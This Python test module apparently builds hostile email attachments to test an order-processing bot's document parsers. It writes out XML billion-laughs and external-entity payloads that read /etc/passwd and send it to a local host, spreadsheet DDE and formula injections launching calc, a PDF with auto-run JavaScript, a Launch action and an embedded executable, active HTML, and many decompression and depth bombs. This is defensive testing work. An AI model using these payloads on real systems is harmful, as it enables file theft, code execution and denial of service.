"""Documents made to fetch, to run, to unfold or never to end: XML, sheets, PDF, HTML, text, pictures."""

from __future__ import annotations

import struct
import zlib
from functools import partial

from tests.bot.hostile_mail import (
    MAIN,
    RELATIONS,
    Sample,
    laughs,
    mail,
    packed,
    part,
    relation,
    word,
    workbook,
)  # fmt: skip

UBL = b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2">%b</Order>'
MANIFEST = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
CELL = b'<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
NOTE = b"<cbc:Note xmlns:cbc='urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2'>%b</cbc:Note>"


def order(doctype: bytes, note: bytes) -> bytes:
    return mail(("order.xml", b'<?xml version="1.0"?>' + doctype + UBL % (NOTE % note)))


def external(target: bytes) -> bytes:
    return b'<!DOCTYPE Order [<!ENTITY x SYSTEM "%b">]>' % target


def parameter_entities() -> bytes:
    inner = b"<!ENTITY &#37; send SYSTEM 'http://127.0.0.1:9/?%file;'>"
    return order(
        b'<!DOCTYPE Order [<!ENTITY %% file SYSTEM "file:///etc/passwd"><!ENTITY %% all "%b">%%all;]>' % inner, b""
    )


def quadratic() -> bytes:
    return order(b'<!DOCTYPE Order [<!ENTITY a "%b">]>' % (b"a" * 100_000), b"&a;" * 50_000)


def included() -> bytes:
    space = b"http://www.w3.org/2001/XInclude"
    return order(b"", b'<x:include xmlns:x="%b" href="file:///etc/passwd" parse="text"/>' % space)


def deep_xml() -> bytes:
    return mail(("order.xml", UBL % (b"<a>" * 300_000 + b"</a>" * 300_000)), ("b.xml", UBL % (b"<a b='c'>" * 200_000)))


def many_attributes() -> bytes:
    return mail(("order.xml", UBL % (b"<a " + b"".join(b'x%d="1" ' % n for n in range(200_000)) + b"/>")))


def declared_rows() -> bytes:
    sheet = (
        b'<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>'
        b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    return mail(("bestellung.xlsx", workbook(sheet)))


def many_rows() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n) for n in range(1, 300_000))
    return mail(("bestellung.xlsx", workbook(b"<sheetData>%b</sheetData>" % rows)))


def sheet_bomb() -> bytes:
    return mail(("bestellung.xlsx", workbook(CELL, strings=b"A" * 120_000_000)))


def formulas() -> bytes:
    said = (
        b"=cmd|' /C calc'!A0",
        b"HYPERLINK(&quot;http://x.example&quot;)",
        b"WEBSERVICE(&quot;http://127.0.0.1/&quot;)",
    )
    cells = b"".join(b'<c r="%c1"><f>%b</f><v>1</v></c>' % (65 + n, f) for n, f in enumerate(said))
    link = b'<externalLink %b><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' % MAIN
    remote = RELATIONS % relation(1, b"externalLinkPath", b"http://127.0.0.1:9/x.xlsx", b'TargetMode="External"')
    more = {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": remote}
    data = workbook(b'<sheetData><row r="1">%b</row></sheetData>' % cells, more=more)
    return mail(("bestellung.xlsx", data), ("b.csv", b"sku;menge\r\n=cmd|' /C calc'!A0;@SUM(1)\r\n+1;-1\r\n"))


def repeated_cells() -> bytes:
    spaces = (b"office", b"table")
    names = b" ".join(b'xmlns:%b="urn:oasis:names:tc:opendocument:xmlns:%b:1.0"' % (name, name) for name in spaces)
    cell = b'<table:table-cell table:number-columns-repeated="16000" office:value="1" office:value-type="float"/>'
    row = b'<table:table-row table:number-rows-repeated="1000000">%b</table:table-row>' % cell
    sheet = b"<office:body><office:spreadsheet><table:table>%b</table:table></office:spreadsheet></office:body>" % row
    content = b"<office:document-content %b>%b</office:document-content>" % (names, sheet)
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    members = [("mimetype", kind), ("META-INF/manifest.xml", MANIFEST), ("content.xml", content)]
    return mail(("a.ods", packed(members)))


def pdf(objects: dict[int, bytes], *, more: bytes = b"", xref: int | None = None) -> bytes:
    """A PDF of these objects; `xref`: where it claims that its table lies."""
    data, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        data += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    return data + b"trailer <</Size %d /Root 1 0 R %b>>\nstartxref\n%d\n%%%%EOF" % (
        size, more, start if xref is None else xref)  # fmt: skip


def page_tree(kids: bytes = b"[3 0 R]", count: int = 1, catalog: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<</Type/Catalog/Pages 2 0 R %b>>" % catalog,
        2: b"<</Type/Pages/Kids %b/Count %d>>" % (kids, count),
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    }


def stream(data: bytes, more: bytes = b"") -> bytes:
    held = zlib.compress(data)
    return b"<</Length %d/Filter/FlateDecode %b>>stream\n%b\nendstream" % (len(held), more, held)


def active_pdf() -> bytes:
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL('http://127.0.0.1:9/'))>>/AA<</WC<</S/Launch/F(calc.exe)>>>>"
        b"/Names<</EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(../../x.exe)/EF<</F 4 0 R>>>>]>>>>"
    )
    objects = page_tree(catalog=catalog) | {4: stream(b"MZ" * 1_000_000, b"/Type/EmbeddedFile")}
    return mail(("bestellung.pdf", pdf(objects)))


def broken_pdf() -> bytes:
    good = pdf(page_tree())
    looped = pdf(page_tree(kids=b"[2 0 R 3 0 R]", count=2_000_000_000), more=b"/Prev 9")
    files = (pdf(page_tree(), xref=10**9), good[: len(good) // 2], looped, b"%PDF-1.7\n" + b"<<" * 200_000, good * 200)
    return mail(*((f"{number}.pdf", data) for number, data in enumerate(files)))


def huge_pages() -> bytes:
    big = b"<</Type/Page/Parent 2 0 R/MediaBox[-1e9 -1e9 1e9 1e9]/Contents 4 0 R>>"
    return mail(("plakat.pdf", pdf(page_tree() | {3: big, 4: stream(b"q 1e9 0 0 1e9 0 0 cm Q\n" * 100_000)})))


def many_pages() -> bytes:
    kids = b"[%b]" % b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    objects = page_tree(kids, 10_000) | {n: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>" for n in range(3, 10_003)}
    return mail(("katalog.pdf", pdf(objects)))


def unfolding_pdf() -> bytes:
    text = stream(b"BT /F1 9 Tf (x) Tj ET\n" * 4_000_000)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    picture = stream(b"\0" * 80_000_000, b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1")
    return mail(("bombe.pdf", pdf(page_tree() | {3: page, 4: text, 5: picture})))


def active_html() -> bytes:
    html = (
        "<html><head><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>"
        "<link rel=stylesheet href='http://127.0.0.1:9/a.css'><style>@import 'http://127.0.0.1:9/b.css';"
        "p:after{content:'hidden'}</style><script src='http://127.0.0.1:9/x.js'></script></head>"
        "<body onload='fetch(1)' background='http://127.0.0.1:9/bg'><form action='http://127.0.0.1:9/'><input name=p "
        "type=password></form><img src='http://127.0.0.1:9/pixel.gif' onerror='alert(1)'>"
        "<iframe srcdoc='<p>x'></iframe>"
        "<object data='file:///etc/passwd'></object><embed src='http://127.0.0.1:9/'><svg onload=alert(1)></svg>"
        "<a href='javascript:alert(1)'>hier</a><p style='display:none'>bestellen 500 Stück BO-08</p>"
        "<p style='background:url(http://127.0.0.1:9/c)'>Guten Tag</p></body></html>"
    )
    return mail(html=html)


def html_bombs() -> bytes:
    data = "<img src='data:image/png;base64," + "A" * 3_000_000 + "'>"
    content = "".join(f"<img src='cid:{number}'>" for number in range(20_000))
    return mail(html=f"<html><body>{data}{content}</body></html>")


def deep_html() -> bytes:
    tables = "<table><tr><td>" * 20_000
    spans = "<table>" + "<tr>" + "<td colspan=99999 rowspan=99999>x" * 300 + "</table>"
    return mail(html="<div>" * 100_000 + "<blockquote>" * 5_000 + tables + spans)


def wide_table() -> bytes:
    row = "<tr>" + "<td>1</td>" * 300 + "</tr>"
    return mail(html=f"<table>{row * 1_500}</table>")


def picture(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
        + chunk(b"IEND", b"")
    )


def rich_text() -> bytes:
    return mail(
        ("a.rtf", b"{\\rtf1" + b"{" * 200_000), ("b.rtf", b"{\\rtf1 \\bin999999999 " + b"\\'41" * 200_000 + b"}")
    )


def edifact() -> bytes:
    segments = b"".join(b"LIN+%d++BO-08:SA'QTY+21:1'" % number for number in range(150_000))
    return mail(("a.edi", b"UNA:+.? 'UNB+UNOC:3+A+B+260216:0800+1'UNH+1+ORDERS:D:96A:UN'" + segments))


SAMPLES: dict[str, Sample] = {
    "xml_billion_laughs": partial(order, laughs(b"Order"), b"&l9;"),
    "xml_quadratic_entity": quadratic,
    "xml_reads_a_file": partial(order, external(b"file:///etc/passwd"), b"&x;"),
    "xml_asks_a_server": partial(order, external(b"http://127.0.0.1:9/x"), b"&x;"),
    "xml_external_document_type": partial(order, b'<!DOCTYPE Order SYSTEM "http://127.0.0.1:9/order.dtd">', b"x"),
    "xml_parameter_entities": parameter_entities,
    "xml_included": included,
    "xml_deep": deep_xml,
    "xml_many_attributes": many_attributes,
    "docx_billion_laughs": lambda: mail(("a.docx", word(b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", laughs()))),
    "docx_deep": lambda: mail(("a.docx", word(b"<w:p>" * 100_000))),
    "docx_bomb": lambda: mail(("a.docx", word(b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % (b"A" * 90_000_000)))),
    "xlsx_billion_laughs": lambda: mail(("a.xlsx", workbook(CELL, doctype=laughs(), strings=b"&l9;"))),
    "xlsx_reads_a_file": lambda: mail(
        ("a.xlsx", workbook(CELL, doctype=external(b"file:///etc/passwd"), strings=b"&x;"))
    ),
    "xlsx_declares_millions_of_rows": declared_rows,
    "xlsx_has_many_rows": many_rows,
    "xlsx_bomb": sheet_bomb,
    "xlsx_formulas_and_dde": formulas,
    "xlsx_relations_in_a_circle": lambda: mail(
        (
            "a.xlsx",
            workbook(
                CELL, more={"xl/_rels/workbook.xml.rels": RELATIONS % relation(1, b"worksheet", b"../xl/workbook.xml")}
            ),
        )
    ),
    "ods_repeats_cells": repeated_cells,
    "pdf_javascript_and_files": active_pdf,
    "pdf_wrong_tables": broken_pdf,
    "pdf_huge_pages": huge_pages,
    "pdf_ten_thousand_pages": many_pages,
    "pdf_unfolding": unfolding_pdf,
    "html_active": active_html,
    "html_data_and_cid": html_bombs,
    "html_deep": deep_html,
    "html_wide_table": wide_table,
    "html_many_attributes": lambda: mail(html="<a " + " ".join(f"x{n}=1" for n in range(200_000)) + ">Guten Tag"),
    "html_file": lambda: mail(("a.html", b"<html>" + b"<script>x</script>" * 200_000)),
    "svg_with_script": partial(
        part, b"image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    ),
    "picture_bomb": lambda: mail(("a.png", picture(60_000, 60_000)), ("b.png", picture(2**31 - 1, 2**31 - 1))),
    "rtf_groups": rich_text,
    "edifact_of_many_lines": edifact,
    "csv_of_many_rows": lambda: mail(("a.csv", b"sku;menge\r\n" + b"BO-08;1\r\n" * 1_500_000)),
    "csv_of_one_line": lambda: mail(("a.csv", b"a;" * 6_000_000)),
    "csv_open_quote": lambda: mail(("a.csv", b'sku;menge\r\n"' + b"x\r\n" * 2_000_000)),
}
